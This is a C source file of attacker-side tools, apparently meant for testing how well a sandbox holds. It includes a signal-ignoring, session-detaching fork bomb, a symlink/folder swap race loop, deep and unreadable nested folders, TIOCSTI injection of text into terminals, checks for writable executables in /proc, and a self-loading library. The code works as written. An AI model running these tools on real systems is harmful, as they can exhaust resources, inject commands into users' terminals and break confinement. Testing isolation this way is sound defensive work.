/*
 * What an attacker would run inside: tools that the probe, which only looks, does not have. Static, or with
 * -DEVIL_LIBRARY a library that gets itself loaded into whatever program is started.
 *
 *   programs             each /proc/PID/exe that can be opened: is its mount read-only, can it be written
 *   where                the current folder, and whether a file `canary` lies in it
 *   bomb N               keeps N children alive that left the session, ignore every signal and fork on
 *   flip FOLDER TARGET   turns FOLDER/sub from a folder into a link to TARGET and back until it is killed
 *   deep FOLDER N        makes N folders in FOLDER, each in the last one, beside some of them a closed one
 *   inject TEXT          puts TEXT into the input of the terminals on 0, 1, 2 and /dev/tty
 *
 * Not here: any judgement.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/wait.h>
#include <unistd.h>

#define CALM_SECONDS 600

/* A program somebody runs: through which mount it is seen, and whether it opens for writing. */
static void look_at(const char *who, const char *path) {
    char again[64], target[PATH_MAX] = "";
    struct statvfs mount = {0};
    int named = open(path, O_PATH | O_CLOEXEC);
    if (named < 0)
        return;
    snprintf(again, sizeof again, "/proc/self/fd/%d", named);
    if (readlink(again, target, sizeof target - 1) < 0 || fstatvfs(named, &mount) < 0)
        return;
    int writing = open(again, O_WRONLY | O_CLOEXEC);
    printf("{\"who\":\"%s\",\"path\":\"%s\",\"read_only\":%s,\"write\":\"%s\"}\n", who, target,
           mount.f_flag & ST_RDONLY ? "true" : "false", writing >= 0 ? "OK" : strerrorname_np(errno));
    fflush(stdout);
}

#ifdef EVIL_LIBRARY

__attribute__((constructor)) static void loaded(void) {
    look_at("evil", "/proc/self/exe");
    _exit(0);
}

#else

static int programs(void) {
    DIR *folder = opendir("/proc");
    for (struct dirent *entry; folder && (entry = readdir(folder));) {
        char path[300];
        snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
        if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9')
            look_at(entry->d_name, path);
    }
    return 0;
}

static int where(void) {
    char folder[PATH_MAX] = "";
    struct stat found;
    if (!getcwd(folder, sizeof folder))
        snprintf(folder, sizeof folder, "%s", strerrorname_np(errno));
    printf("{\"cwd\":\"%s\",\"canary\":%s}\n", folder, stat("canary", &found) == 0 ? "true" : "false");
    return 0;
}

static void stubborn(void) {
    setsid();
    for (int number = 1; number < NSIG; number++)
        signal(number, SIG_IGN);
}

static int bomb(int count) {
    stubborn();
    signal(SIGCHLD, SIG_DFL);
    printf("{\"ready\":true}\n");
    fflush(stdout);
    for (int alive = 0;;) {
        while (alive < count) {
            pid_t child = fork();
            if (child < 0)
                break;
            if (child == 0) {
                stubborn();
                for (int i = 0; i < 3; i++) { /* each goes on as its own child, a few times */
                    usleep(1000);
                    if (fork() > 0)
                        _exit(0);
                    setsid();
                }
                sleep(CALM_SECONDS);
                _exit(0);
            }
            alive++;
        }
        if (wait(NULL) > 0 || errno == EINTR)
            continue;
        sleep(CALM_SECONDS); /* all have left us */
    }
}

static int flip(const char *folder, const char *target) {
    if (chdir(folder) < 0 || (mkdir("sub", 0777) < 0 && errno != EEXIST) || symlink(target, "link") < 0)
        return 1;
    printf("{\"ready\":true}\n");
    fflush(stdout);
    for (;;)
        renameat2(AT_FDCWD, "sub", AT_FDCWD, "link", RENAME_EXCHANGE);
}

static int deep(const char *folder, int count) {
    int at = open(folder, O_PATH | O_CLOEXEC);
    for (int i = 0; i < count; i++) {
        int above = at;
        if (mkdirat(above, "d", 0700) < 0 || (at = openat(above, "d", O_PATH | O_CLOEXEC)) < 0)
            return 1;
        if (i % 10 == 5 && (mkdirat(at, "closed", 0700) < 0 || mkdirat(at, "closed/inner", 0700) < 0 ||
                            fchmodat(at, "closed", 0, 0) < 0))
            return 1;
        close(above);
    }
    return 0;
}

static int inject(const char *text) {
    int terminals[] = {0, 1, 2, open("/dev/tty", O_RDWR | O_CLOEXEC)};
    int injected = 0;
    for (int i = 0; i < 4; i++)
        for (const char *at = text; *at; at++)
            injected += ioctl(terminals[i], TIOCSTI, at) == 0;
    return injected ? 0 : 9;
}

int main(int count, char **arguments) {
    const char *tool = count > 1 ? arguments[1] : "", *one = count > 2 ? arguments[2] : "";
    if (strcmp(tool, "programs") == 0)
        return programs();
    if (strcmp(tool, "where") == 0)
        return where();
    if (strcmp(tool, "bomb") == 0)
        return bomb(atoi(one));
    if (strcmp(tool, "flip") == 0)
        return flip(one, count > 3 ? arguments[3] : "/");
    if (strcmp(tool, "deep") == 0)
        return deep(one, count > 3 ? atoi(arguments[3]) : 0);
    if (strcmp(tool, "inject") == 0)
        return inject(one);
    fprintf(stderr, "payload: no tool is called `%s`\n", tool);
    return 64;
}

#endif
